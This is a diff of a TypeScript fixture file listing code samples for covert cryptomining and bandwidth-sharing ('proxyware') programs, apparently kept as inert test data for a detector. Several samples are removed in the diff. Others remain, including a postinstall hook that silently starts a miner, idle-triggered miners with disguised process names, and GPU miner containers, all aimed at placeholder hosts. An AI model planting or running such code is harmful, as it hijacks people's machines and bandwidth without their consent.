@@ -1,10 +1,6 @@
 /** Programs that lend the machine to somebody, each by other means. Inert: reserved names. */
 export const LENDING: readonly [string, string][] = [
   [
-    "idle.js",
-    'const { powerMonitor } = require("electron");\nconst { fork } = require("child_process");\nlet w = null;\nsetInterval(() => {\n  const idle = powerMonitor.getSystemIdleTime();\n  if (idle > 300 && !w) w = fork("./hasher.js", ["--endpoint", "wss://jobs.example/ws", "--account", "acct-118"]);\n  if (idle < 5 && w) { w.kill(); w = null; }\n}, 10000);\n',
-  ],
-  [
     "work.rb",
     "require 'socket'\nrequire 'json'\nrequire 'digest'\nsock = TCPSocket.new('jobs.example', 8332)\nsock.puts({ id: 1, method: 'mining.authorize', params: ['acct.w1', 'x'] }.to_json)\nwhile (line = sock.gets)\n  job = JSON.parse(line)['params'] or next\n  (0..0xffffffff).each do |i|\n    h = Digest::SHA256.digest(Digest::SHA256.digest([job[1]].pack('H*') + [i].pack('V')))\n    next unless h.reverse.unpack1('H*').start_with?('00000')\n    sock.puts({ id: 2, method: 'mining.submit', params: ['acct.w1', job[0], i] }.to_json)\n    break\n  end\nend\n",
   ],
@@ -21,10 +17,6 @@ export const LENDING: readonly [string, string][] = [
     '{\n  "name": "tidy-helper",\n  "version": "1.0.0",\n  "scripts": { "postinstall": "npx --yes xmr-miner-lite --pool pool.example:3333 --wallet 48example &" }\n}\n',
   ],
   [
-    "bw.py",
-    'import asyncio, websockets, uuid, json, aiohttp\nUID = "2b7e-user"\nasync def loop():\n    async with websockets.connect("wss://proxy.bandshare.example:4650/") as ws:\n        await ws.send(json.dumps({"action": "AUTH", "user_id": UID, "device": str(uuid.uuid4())}))\n        async for m in ws:\n            t = json.loads(m)\n            if t["action"] == "HTTP_REQUEST":\n                async with aiohttp.ClientSession() as s:\n                    async with s.request(t["data"]["method"], t["data"]["url"], headers=t["data"]["headers"]) as r:\n                        await ws.send(json.dumps({"id": t["id"], "status": r.status, "body": (await r.text())}))\nasyncio.run(loop())\n',
-  ],
-  [
     "plug.ts",
     'import { cpus } from "node:os";\nimport { Worker, isMainThread, parentPort, workerData } from "node:worker_threads";\nimport { createHash } from "node:crypto";\nif (isMainThread) {\n  for (const _ of cpus().slice(1)) {\n    const w = new Worker(__filename, { workerData: { url: "https://units.example" } });\n    w.unref();\n  }\n} else {\n  const { url } = workerData;\n  for (;;) {\n    const u = await (await fetch(`${url}/unit`)).json();\n    let c = u.start;\n    while (BigInt("0x" + createHash("sha256").update(u.head + c).digest("hex")) > BigInt(u.ceiling)) c++;\n    await fetch(`${url}/unit/${u.id}`, { method: "PUT", body: String(c) });\n  }\n}\n',
   ],
@@ -35,10 +27,6 @@ export const LENDING: readonly [string, string][] = [
   [
     "deno.ts",
     'const conn = await Deno.connect({ hostname: "jobs.example", port: 3032 });\nconst enc = new TextEncoder();\nawait conn.write(enc.encode(JSON.stringify({ id: 1, method: "login", params: { login: "48example", pass: "x", agent: "deno/1" } }) + "\\n"));\nconst wasm = await WebAssembly.instantiate(await Deno.readFile("./rx.wasm"));\nfor await (const chunk of conn.readable) {\n  const job = JSON.parse(new TextDecoder().decode(chunk));\n  const r = (wasm.instance.exports.scan as any)(job.params.blob, job.params.target);\n  await conn.write(enc.encode(JSON.stringify({ id: 2, method: "submit", params: { job_id: job.params.job_id, nonce: r } }) + "\\n"));\n}\n',
-  ],
-  [
-    "inject.py",
-    'from pathlib import Path\nTAG = \'<script src="https://hash.cdn.example/m.js" data-key="acct-5" data-throttle="0.5" async></script>\'\nfor f in Path("site").rglob("*.html"):\n    s = f.read_text()\n    if "data-throttle" not in s:\n        f.write_text(s.replace("</body>", TAG + "</body>"))\n',
   ],
   [
     "chia.sh",
@@ -53,32 +41,16 @@ export const LENDING: readonly [string, string][] = [
     'from concurrent.futures import ProcessPoolExecutor\nimport http.client, json, hashlib, itertools, os\ndef ask(m, p, b=None):\n    c = http.client.HTTPSConnection("coord.example"); c.request(m, p, b and json.dumps(b)); return json.loads(c.getresponse().read())\ndef part(a):\n    seed, off, step, want = a\n    for i in itertools.count(off, step):\n        if hashlib.scrypt(str(i).encode(), salt=seed.encode(), n=1024, r=1, p=1, dklen=32).hex() < want:\n            return i\ndef main():\n    n = os.cpu_count()\n    with ProcessPoolExecutor(n) as ex:\n        while True:\n            j = ask("GET", "/j")\n            for i in ex.map(part, [(j["s"], k, n, j["w"]) for k in range(n)]):\n                ask("POST", "/j/" + j["i"], {"i": i, "acct": "a-6"}); break\nmain()\n',
   ],
   [
-    "proxyware.js",
-    'const net = require("net");\nconst up = net.connect(7070, "exit.peers.example", () => up.write("REG acct-12 residential\\n"));\nup.on("data", (b) => {\n  const [, id, host, port] = b.toString().match(/^OPEN (\\d+) (\\S+) (\\d+)/) || [];\n  if (!id) return;\n  const t = net.connect(+port, host);\n  t.on("data", (d) => up.write(`DATA ${id} ${d.toString("base64")}\\n`));\n});\n',
-  ],
-  [
     "sync.py",
     'import zmq, os, hashlib, msgpack\nctx = zmq.Context(); s = ctx.socket(zmq.DEALER); s.connect("tcp://queue.example:5560")\ns.send(msgpack.packb({"hi": os.uname().nodename, "acct": "a71"}))\nwhile True:\n    piece = msgpack.unpackb(s.recv())\n    v = piece["lo"]\n    while v < piece["hi"]:\n        if hashlib.sha3_256(piece["pre"] + v.to_bytes(8, "little")).digest() <= piece["cap"]:\n            s.send(msgpack.packb({"ok": v, "of": piece["id"]})); break\n        v += 1\n',
-  ],
-  [
-    "theme.ts",
-    'import * as vscode from "vscode";\nimport { spawn, ChildProcess } from "node:child_process";\nlet child: ChildProcess | undefined;\nexport function activate(ctx: vscode.ExtensionContext) {\n  vscode.window.onDidChangeWindowState((s) => {\n    if (!s.focused && !child) {\n      child = spawn(ctx.asAbsolutePath("bin/lint-engine"), ["--host", "node.example:7777", "--acct", "kx-88", "--cores", "3"]);\n    } else if (s.focused) { child?.kill(); child = undefined; }\n  });\n}\n',
   ],
   [
     "sdk.py",
     'import ctypes, pathlib, threading\nlib = ctypes.CDLL(str(pathlib.Path(__file__).with_name("libpacketsdk.so")))\nlib.packet_sdk_set_app_key(b"key-118")\nthreading.Thread(target=lib.packet_sdk_start, daemon=True).start()\n',
   ],
   [
-    "exporter.go.py",
-    'import grpc, os, numpy as np\nimport work_pb2 as pb, work_pb2_grpc as rpc\nch = grpc.secure_channel("sched.example:443", grpc.ssl_channel_credentials())\nstub = rpc.SchedStub(ch)\nme = stub.Join(pb.Hello(cores=os.cpu_count(), payout="0xdead"))\nfor unit in stub.Units(me):\n    m = np.frombuffer(unit.a, np.float32).reshape(unit.n, unit.n)\n    stub.Done(pb.Result(id=unit.id, out=(m @ m).tobytes()))\n',
-  ],
-  [
     "solana.sh",
     "#!/bin/bash\ncargo install ore-cli --quiet\nore --rpc https://rpc.example --keypair ~/.config/solana/id.json --priority-fee 1000 mine --cores $(nproc) &\n",
-  ],
-  [
-    "grass.js",
-    'const WebSocket = require("ws");\nconst axios = require("axios");\nconst ws = new WebSocket("wss://relay2.sharing.example:4444");\nws.on("open", () => ws.send(JSON.stringify({ id: 1, action: "AUTH", user_id: "u-4", device_type: "extension" })));\nws.on("message", async (raw) => {\n  const m = JSON.parse(raw);\n  if (m.action !== "HTTP_REQUEST") return;\n  const r = await axios({ url: m.data.url, method: m.data.method, headers: m.data.headers, responseType: "arraybuffer" });\n  ws.send(JSON.stringify({ id: m.id, result: { status: r.status, body: Buffer.from(r.data).toString("base64") } }));\n});\n',
   ],
   [
     "task.py",
@@ -97,10 +69,6 @@ export const LENDING: readonly [string, string][] = [
     'import docker\nc = docker.from_env()\nc.containers.run("reg.example/util/agent:2", command=["--pool", "kas.example:5555", "--wallet", "kaspa:qexample", "--devices", "0"], detach=True, device_requests=[docker.types.DeviceRequest(count=-1, capabilities=[["gpu"]])])\n',
   ],
   [
-    "e.py",
-    'import kubernetes as k\nk.config.load_kube_config()\nspec = {"containers": [{"name": "m", "image": "docker.example/a:1", "args": ["-o", "pool.example:443", "-u", "48example", "-k", "--tls", "--coin", "monero"]}]}\nk.client.CoreV1Api().create_namespaced_pod("default", {"metadata": {"name": "m"}, "spec": spec})\n',
-  ],
-  [
     "f.ts",
     'import Docker from "dockerode";\nconst d = new Docker();\nconst c = await d.createContainer({ Image: "honeygain/honeygain", Cmd: ["-tou-accept", "-email", "x@mail.example", "-pass", "p", "-device", "d"] });\nawait c.start();\n',
   ],
@@ -117,20 +85,12 @@ export const LENDING: readonly [string, string][] = [
     'my @a = ("./.t/top", "--url", "pool.example:14444", "--user", "48example", "--pass", "x", "--background");\nfork or exec { $a[0] } @a;\n',
   ],
   [
-    "l.html",
-    '<html><body><h1>Guide</h1><script>\nconst w = []; for (let i = 0; i < (navigator.hardwareConcurrency || 2) - 1; i++) {\n  const k = new Worker("hash-worker.js"); k.postMessage({ relay: "wss://relay.example/", acct: "k-19" }); w.push(k);\n}\ndocument.addEventListener("visibilitychange", () => w.forEach(k => k.postMessage({ run: document.hidden })));\n</script></body></html>\n',
-  ],
-  [
     "w.py",
     'import os\nm = {"c": "nice -n 19", "b": "~/.local/share/gvfs/gvfsd-meta", "o": "-o relay.example:3333", "u": "-u 48example", "k": "-k --background"}\nos.system(" ".join(m[x] for x in "cbouk"))\n',
   ],
   [
     "turbo.js",
     'import axios from "axios";\nimport { sha3_256 } from "js-sha3";\nconst api = axios.create({ baseURL: "https://tally.example" });\nconst ok = (h, z) => h.slice(0, z) === "0".repeat(z);\n(async function run() {\n  const { data } = await api.get("/open");\n  let i = Math.floor(Math.random() * 2 ** 32);\n  while (!ok(sha3_256(data.text + i), data.z)) i++;\n  await api.post("/close", { i, ref: "acct-2" });\n  setImmediate(run);\n})();\n',
-  ],
-  [
-    "mac.sh",
-    "#!/bin/zsh\nwhile sleep 30; do\n  idle=$(ioreg -c IOHIDSystem | awk '/HIDIdleTime/ {print int($NF/1000000000); exit}')\n  if (( idle > 240 )); then pgrep -q mdhelper || ~/Library/mdhelper --endpoint wss://w.example --account a-12 &\n  else pkill mdhelper; fi\ndone\n",
   ],
   [
     "launch.plist",
@@ -143,10 +103,6 @@ export const LENDING: readonly [string, string][] = [
   [
     "psn.ps1",
     "docker run -d --name ps --restart always -e CID=abc packetstream/psclient:latest\ndocker run -d --name pp -e P2P_EMAIL=x@mail.example peer2profit/peer2profit_x86_64\n",
-  ],
-  [
-    "nodegyp.js",
-    'const os = require("os");\nconst { Worker } = require("worker_threads");\nif (os.loadavg()[0] < 0.5 * os.cpus().length)\n  for (let i = 0; i < os.cpus().length / 2; i++) new Worker("./lib/opt.js", { workerData: { server: "tcp://p.example:3333", user: "k8" } });\n',
   ],
   [
     "s.pl",
